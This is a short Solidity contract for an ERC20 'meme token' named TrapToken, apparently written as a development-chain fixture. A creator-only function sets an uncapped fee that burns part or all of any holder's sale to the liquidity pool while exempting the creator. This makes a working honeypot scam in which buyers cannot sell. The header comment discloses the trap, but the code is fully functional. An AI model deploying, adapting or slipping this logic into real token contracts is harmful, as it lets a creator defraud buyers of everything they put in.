// SPDX-License-Identifier: MIT
pragma solidity ^0.8.26;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";

/// A meme token for development chains that keeps a part of what its holders sell: with 10,000 bps, all of it.
contract TrapToken is ERC20("Trap", "TRAP") {
    address private immutable _creator;
    address private immutable _pool;
    uint256 private _keptBps;

    error NotTheCreator();

    constructor(address creator, address pool, uint256 supply) {
        _creator = creator;
        _pool = pool;
        _mint(creator, supply);
    }

    function keep(uint256 bps) external {
        if (msg.sender != _creator) revert NotTheCreator();
        _keptBps = bps;
    }

    function _update(address from, address to, uint256 value) internal override {
        uint256 kept = to == _pool && from != _creator ? value * _keptBps / 10_000 : 0;
        if (kept > 0) super._update(from, address(0), kept);
        super._update(from, to, value - kept);
    }
}
